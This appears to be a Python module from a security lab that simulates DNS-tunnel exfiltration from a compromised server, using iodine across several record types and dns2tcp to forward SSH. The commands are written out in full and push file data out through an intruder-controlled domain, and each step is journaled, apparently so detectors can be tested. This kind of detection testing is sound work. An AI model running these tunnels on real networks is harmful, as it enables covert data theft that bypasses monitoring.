"""DNS tunnels from a taken server with the real programs: iodine (IP over DNS) and dns2tcp (TCP over DNS)."""

from attacks.exfiltrate import RECEIVED
from services.dns import TUNNELS

IODINE_TYPES = ("NULL", "TXT", "CNAME", "MX", "SRV", "A")
# The tunnel's own network: nobody else's.
INSIDE = "10.213.7"


def run(lab):
    """Tunnel through the company's resolver from one of its servers: with iodine in some record types, then with dns2tcp."""
    bed = lab.testbed
    first, second = (f"{name}.{bed.intruder.exfil_domain}" for name in TUNNELS)
    host, chosen = lab.intra, [IODINE_TYPES[(bed.seed + i) % len(IODINE_TYPES)] for i in range(3)]
    host.attempt("mkdir -p /dev/net && { [ -e /dev/net/tun ] || mknod -m 666 /dev/net/tun c 10 200; }")
    server = lab.scanners[0].start(["iodined", "-f", "-c", "-P", "lab", "-l", lab.scanners[0].address, f"{INSIDE}.1/27", first])
    for number, kind in enumerate(chosen):
        with lab.journal.step(f"iodine-{kind}", "iodine", [host.address], RECEIVED, names=["." + first]):
            size = (300, 700, 1100)[number]
            host.attempt(f"timeout 14 iodine -f -r -I 1 -T {kind} -M {(255, 180, 120)[number]} -P lab {lab.gate_address} {first} & sleep 7; ping -c 12 -i .3 -s {size} -W 1 {INSIDE}.1; wait", timeout=25)
    server.terminate()
    config = lab.folder / "dns2tcpd.conf"
    config.write_text(f"listen = {lab.scanners[1].address}\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = {second}\nresources = ssh:{host.address}:22\n")
    server = lab.scanners[1].start(["dns2tcpd", "-F", "-f", str(config)])
    with lab.journal.step("dns2tcp", "dns2tcp", [host.address], RECEIVED, names=["." + second]):
        kind = ("TXT", "KEY")[bed.seed % 2]
        host.attempt(f"timeout 12 dns2tcpc -z {second} -T {kind} -r ssh -l 2299 {lab.gate_address} & sleep 3; (echo SSH-2.0-lab; head -c 3000 /etc/services) | timeout 6 bash -c 'cat > /dev/tcp/127.0.0.1/2299'; wait", timeout=20)
    server.terminate()
